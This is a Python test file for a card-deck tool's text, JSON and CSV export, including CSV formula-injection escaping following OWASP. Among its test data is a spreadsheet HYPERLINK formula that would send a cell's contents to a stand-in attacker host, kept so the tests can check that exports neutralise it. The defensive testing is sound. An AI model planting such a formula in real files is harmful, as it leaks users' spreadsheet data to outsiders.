"""Export as text (re-importable unchanged), JSON and CSV."""

from __future__ import annotations

import csv
import io

import pytest

from decks.formats import DeckLine
from decks.listexport import export_csv, export_json, export_text
from decks.textlist import NameIndex, parse_deck_text, resolve
from web.csvcells import escape_cell, unescape_cell

from .factories import by_name, card, shipped_chizo, shipped_shadowfist, starter_decks


def chizo(*entries: tuple[str, int]) -> list[DeckLine]:
    return [DeckLine(by_name(shipped_chizo(), n), c) for n, c in entries]


def test_text_export_groups_by_type_in_the_games_order_under_counted_headers():
    deck = chizo(("Push", 2), ("Golden Egg", 3), ("Rat", 12), ("Boulder", 1), ("Grumpy Ox", 3))
    assert export_text(deck, game="chizo") == (
        "Creatures (15)\n"
        "3 Grumpy Ox\n"
        "12 Rat\n"
        "\n"
        "Actions (3)\n"
        "3 Golden Egg\n"
        "\n"
        "Actions/Reactions (2)\n"
        "2 Push\n"
        "\n"
        "Obstacles (1)\n"
        "1 Boulder\n"
    )


def test_an_empty_deck_exports_as_empty_text():
    assert export_text([], game="chizo") == ""


def test_a_card_on_two_lines_is_exported_once():
    egg = by_name(shipped_chizo(), "Golden Egg")
    assert export_text([DeckLine(egg, 1, 1), DeckLine(egg, 2, 5)], game="chizo") == (
        "Actions (3)\n3 Golden Egg\n"
    )


def test_exported_text_imports_to_the_same_deck_and_exports_unchanged():
    index = NameIndex(shipped_shadowfist())
    for deck in starter_decks().values():
        text = "\n".join(f"{n} {name}" for name, n in deck.items())
        first = resolve(parse_deck_text(text), index).lines
        exported = export_text(first, game="shadowfist")
        again = resolve(parse_deck_text(exported), index)
        assert again.errors == []
        assert {(x.card.id, x.count) for x in again.lines} == {(x.card.id, x.count) for x in first}
        assert export_text(again.lines, game="shadowfist") == exported


def test_json_export_lists_count_name_type_and_id():
    deck = chizo(("Golden Egg", 3), ("Rat", 12))
    rat, egg = by_name(shipped_chizo(), "Rat"), by_name(shipped_chizo(), "Golden Egg")
    assert export_json(deck) == [
        {"count": 12, "name": "Rat", "type": "Creature", "id": rat.id},
        {"count": 3, "name": "Golden Egg", "type": "Action", "id": egg.id},
    ]


def test_csv_export_has_a_header_and_quotes_where_needed():
    deck = [DeckLine(by_name(shipped_chizo(), "Golden Egg"), 3)]
    egg_id = deck[0].card.id
    assert export_csv(deck) == f"count,name,type,id\r\n3,Golden Egg,Action,{egg_id}\r\n"
    awkward = [DeckLine(by_name(shipped_shadowfist(), "Pilgrims' Offerings"), 1)]
    assert export_csv(awkward).splitlines()[1].startswith("1,Pilgrims' Offerings,Edge,")


# --- CSV injection (OWASP): a cell a spreadsheet would run as a formula starts with ' -------

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1 Power",
    "-Edge",
    "@Mention",
    "'=Already Quoted",
]
FORMULA_CARDS = [card(name, type="Event") for name in FORMULA_NAMES]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_export_escapes_cells_a_spreadsheet_would_read_as_a_formula():
    plain = card("'Tis Plain", type="Event")
    exported = export_csv([DeckLine(c, 2) for c in [*FORMULA_CARDS, plain]])

    names = [row[1] for row in csv_rows(exported)[1:]]
    assert sorted(names) == sorted(
        [
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
            "'+1 Power",
            "'-Edge",
            "'@Mention",
            "''=Already Quoted",
            "'Tis Plain",
        ]
    )
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in csv_rows(exported) for cell in row)


@pytest.mark.parametrize(
    ("cell", "escaped"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("'=1", "''=1"),
        ("'Tis", "'Tis"),
        ("Plain", "Plain"),
        ("", ""),
    ],
)
def test_a_cell_is_escaped_as_owasp_recommends_and_read_back_unchanged(cell, escaped):
    assert escape_cell(cell) == escaped
    assert unescape_cell(escaped) == cell


def test_an_import_of_the_csv_export_reads_the_names_back_unchanged():
    index = NameIndex([*FORMULA_CARDS, *shipped_shadowfist()])
    deck = [DeckLine(c, n) for n, c in enumerate(FORMULA_CARDS, start=1)]
    deck.append(DeckLine(by_name(shipped_shadowfist(), "Pilgrims' Offerings"), 3))

    parsed = parse_deck_text(export_csv(deck))
    resolved = resolve(parsed, index)

    assert parsed.errors == []
    assert resolved.errors == []
    assert [line.name for line in parsed.lines] == [c.card.name for c in _sorted_like_export(deck)]
    assert {(x.card.id, x.count) for x in resolved.lines} == {(x.card.id, x.count) for x in deck}


def _sorted_like_export(deck: list[DeckLine]) -> list[DeckLine]:
    ids = [row["id"] for row in export_json(deck)]
    return sorted(deck, key=lambda line: ids.index(line.card.id))


def test_a_csv_list_reports_bad_rows_by_line_like_a_text_list():
    parsed = parse_deck_text(
        "count,name,type,id\r\n2,Rat,Creature,1\r\nmany,Ox,Creature,2\r\n3,,,\r\n"
    )

    assert [(line.count, line.name) for line in parsed.lines] == [(2, "Rat")]
    assert [(e.line, e.code) for e in parsed.errors] == [(3, "bad_count"), (4, "missing_name")]
